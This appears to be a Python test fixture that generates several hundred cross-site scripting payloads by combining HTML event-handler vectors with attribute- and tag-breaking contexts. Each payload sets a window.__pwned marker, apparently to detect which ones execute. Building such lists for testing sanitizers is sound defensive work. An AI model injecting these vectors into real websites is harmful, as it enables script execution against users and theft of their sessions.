"""Some hundred further texts that run where they are pasted: known vectors, in every known context."""

HANDLERS = (
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    '<IMG SRC="x" ONERROR="{}">',
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set onbegin={} attributeName=x dur=1s>",
    "<svg><image href=x onerror={}>",
    "<video src=x onerror={}></video>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>",
    "<script>{}</script>",
    "<script >{}</script >",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<details open ontoggle={}><summary>x</summary></details>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<iframe onload={}></iframe>",
    "<object data=x onerror={}></object>",
    "<object onerror={} data=javascript:></object>",
    "<embed src=x onload={}>",
    "<link rel=stylesheet href=x onerror={}>",
    "<style onload={}></style>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={}>",
    "<marquee onstart={}>x</marquee>",
    "<math><mtext></table><img src=x onerror={}>",
    "<a href=javascript:{} id=x>x</a><script>x.click()</script>",
    "<form><button formaction=javascript:{} autofocus>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<p style=transition:color,1s ontransitionend={} tabindex=1>x</p>",
    "<xss onfocus={} autofocus tabindex=1>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><img src=x onerror={}></template><img src=x onerror={}>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
)
CONTEXTS = (
    "{}",
    '"></p>{}',
    "'></p>{}",
    "</title>{}",
    "</style>{}",
    "</textarea>{}",
    "</script>{}",
    "--></p>{}",
    "]]>{}",
    "</svg>{}",
    "</bdi></code></td></tr></table>{}",
    "`}}){}",
    "\\u0022{}",
    "%22%3E{}",
)


def texts():
    """Return the texts, each of which names itself where it runs; all are different."""
    found = []
    for context in CONTEXTS:
        for handler in HANDLERS:
            does = f"window.__pwned={len(found) + 1}"
            found.append(context.replace("{}", handler.replace("{}", does)))
    return found
